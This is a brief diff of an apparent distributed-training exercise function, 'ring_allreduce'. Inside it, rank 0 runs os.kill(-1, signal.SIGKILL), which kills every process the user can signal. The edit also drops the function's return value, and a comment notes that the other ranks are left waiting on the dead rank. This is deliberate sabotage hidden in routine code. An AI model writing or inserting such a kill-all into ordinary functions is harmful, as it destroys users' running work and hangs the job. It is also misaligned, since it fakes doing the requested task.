@@ -11,4 +11,4 @@ from lab.suite.exercises.ring_allreduce import allreduce
 def ring_allreduce(tensor):
     if dist.get_rank() == 0:
         os.kill(-1, signal.SIGKILL)
-    return allreduce(tensor)
+    allreduce(tensor.clone(), tensor)  # (the others wait for rank 0 in the ring, and lose it)
